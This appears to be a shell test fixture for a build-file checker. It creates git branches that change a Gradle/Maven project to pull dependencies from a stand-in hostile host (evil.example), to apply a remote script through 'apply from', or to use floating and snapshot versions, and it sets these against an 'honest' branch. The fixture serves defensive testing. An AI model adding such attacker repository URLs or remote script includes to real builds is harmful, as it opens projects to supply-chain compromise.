# SPDX-License-Identifier: Apache-2.0
# Addresses of repositories that a Gradle script puts together: those that come to another host, and those that cannot be told. Versions that move from now on,
# in every way that they are written. A snapshot is a warning, and what moves after it is not. Honest: a known host, a pattern of coordinates, folders of the build, what is published, lines that stay; a project's own snapshots.
repo
cat >build.gradle <<'END'
def host = 'repo.example.org'
ext.leftVersion = '1.0'
version = '1.0'
plugins { id 'org.example.plugin' version '1.0' }
repositories {
    mavenCentral()
    maven { url "https://$host/m2" }
    maven { url privateRepository }
}
dependencies {
    implementation "org.example:left:$leftVersion"
    implementation group: 'org.example', name: 'right', version: '1.0'
    implementation 'org.other:other:1.0'
}
def licensed = ['org.other:pattern:1.0']
END
printf 'dependencies {\n    implementation("org.example", "left", "1.0")\n}\n' | put app/build.gradle.kts
printf 'rightVersion=1.0\nversion=1.0\n' | put gradle.properties
printf '[versions]\nleft = "1.0"\nright = { prefer = "1.0" }\n' | put gradle/libs.versions.toml
echo '<project><groupId>org.example.shop</groupId><version>1.0</version><dependencies><dependency><groupId>org.example.shop.parts</groupId><artifactId>own</artifactId><version>1.0</version></dependency><dependency><groupId>org.other</groupId><artifactId>other</artifactId><version>1.0</version></dependency></dependencies></project>' | put pom.xml
commit start
change() { git checkout -q -b "$1" main; }
last() { printf '%s\n' "$@" >>build.gradle && commit x; }
change host && sed -i "s,host = 'repo,host = 'evil," build.gradle && commit x
change base && last 'def base = "https://evil.example"' 'repositories { maven { url "$base/m2" } }'
change named && last 'ext { base = "https://evil.example/m2" }' 'repositories { maven { url = uri(rootProject.ext.base) } }'
change joined && last "repositories { maven { url 'https:' + '//evil.example/m2' } }"
change typed && printf 'val base: String = "https://evil.example"\nrepositories { maven(base + "/m2") }\n' >>app/build.gradle.kts && commit x
change applied && last 'def base = "https://evil.example"' 'apply from: "$base/x.gradle"'
change else && last 'repositories { maven { url = System.getenv("M2") ?: "https://evil.example/m2" } }'
change unknown && last 'repositories { maven { url "https://" + there + "/m2" } }' 'repositories { maven { url "$there/m2" } }' 'apply from: "$there/x.gradle"'
change else-inside && last 'repositories { maven { url "${System.getenv("M2") ?: "https://evil.example"}/m2" } }'
change else-applied && last 'apply from: "${System.getenv("X") ?: """https://evil.example/x.gradle"""}"'
change else-known && last 'repositories { maven { url = System.getenv("M2") ?: "https://repo.example.org/m3" } }'
change host-inside && last 'repositories { maven { url "https://${System.getenv("HOST")}/m2" } }'
change scheme-inside && last 'repositories { maven { url "${System.getenv("SCHEME")}://evil.example/m2" } }'
change unclosed && last 'repositories { maven { url "${"; url "https://evil.example/m2" } }'
change not-that-folder && last 'def buildDir = there()' 'repositories { maven { url "$buildDir/m2" } }'
change plugin && sed -i "s,plugin' version '1.0',plugin' version '1.+'," build.gradle && commit x
change map && sed -i "s,'right'\, version: '1.0',\'right'\, version: 'latest.release'," build.gradle && commit x
change variable && sed -i "s,leftVersion = '1.0',leftVersion = '[1.0\,2.0)'," build.gradle && commit x
change snapshot && sed -i 's,other:1.0,other:1.1-SNAPSHOT,' build.gradle && commit x
change arguments && sed -i 's,"1.0","1.+",' app/build.gradle.kts && commit x
change properties && sed -i 's,rightVersion=1.0,rightVersion=+,' gradle.properties && commit x
change catalog && sed -i 's,left = "1.0",left = "1.1-SNAPSHOT",' gradle/libs.versions.toml && commit x
change prefer && sed -i 's,prefer = "1.0",prefer = "1.+",' gradle/libs.versions.toml && commit x
change pom && sed -i 's,other</artifactId><version>1.0,other</artifactId><version>1.1-SNAPSHOT,' pom.xml && commit x
git checkout -q -b no-snapshot snapshot && sed -i 's,other:1.1-SNAPSHOT,other:1.+,' build.gradle && commit x
change honest
last 'def path = "libs"' 'repositories { maven { url "https://$host/other" }; maven { url "$rootDir/$path" }; maven { url layout.buildDirectory.dir("m2") }; maven { url "../m2" }; maven { url "https://repo.example.org/${property("folder") ?: "m2"}/x" }; maven { url "$rootDir/${[a: "m2"].collect { it.value }}" }; maven { url = uri("https://repo.example.org/$path") } }' 'apply from: "$rootDir/x.gradle"' 'publishing { repositories { maven { url releases } } }'
sed -i "s,version = '1.0',version = '1.1-SNAPSHOT',; s,pattern:1.0,pattern:.*,; s,privateRepository,privateRepository /* as before */," build.gradle
sed -i 's,^version=1.0,version=1.1-SNAPSHOT,; s,rightVersion=1.0,rightVersion=1.1,' gradle.properties
sed -i 's,<version>1.0</version><dependencies>,<version>1.1-SNAPSHOT</version><dependencies>,; s,own</artifactId><version>1.0,own</artifactId><version>1.1-SNAPSHOT,' pom.xml
commit honest
